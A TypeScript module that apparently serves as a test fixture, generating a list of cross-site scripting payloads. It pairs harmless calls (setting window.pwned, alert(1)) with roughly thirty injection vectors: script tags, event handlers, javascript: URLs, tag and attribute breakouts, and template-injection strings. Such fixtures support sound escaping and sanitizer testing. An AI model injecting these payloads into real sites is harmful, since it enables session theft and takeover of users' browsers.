// Texts that run in a page which does not escape them. Each would set `window.pwned` or open a dialog.

const calls = ['window.pwned=1', 'alert(1)'];

/** Elements and attributes that run code, in text, in an attribute, in a script and in a comment. */
const carriers = (code: string): string[] => [
  `<script>${code}</script>`,
  `</script><script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `"><img src=x onerror="${code}">`,
  `'><img src=x onerror='${code}'>`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<body onload=${code}>`,
  `<details open ontoggle=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<video><source onerror=${code}></video>`,
  `<object data="javascript:${code}"></object>`,
  `<a href="javascript:${code}">x</a>`,
  `<math href="javascript:${code}">x</math>`,
  `<style>@import 'javascript:${code}';</style>`,
  `<base href="javascript:${code}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `--><script>${code}</script><!--`,
  `]]><script>${code}</script>`,
  `</title><script>${code}</script>`,
  `</textarea><script>${code}</script>`,
  `</style><script>${code}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><script>${code}</script></template><img src=x onerror=${code}>`,
  `\\u003cimg src=x onerror=${code}\\u003e`,
  `" onmouseover="${code}" autofocus onfocus="${code}" x="`,
  `\`-${code}-\``,
  `\${${code}}`,
  `{{constructor.constructor('${code}')()}}`,
];

export const payloads: readonly string[] = calls.flatMap(carriers);
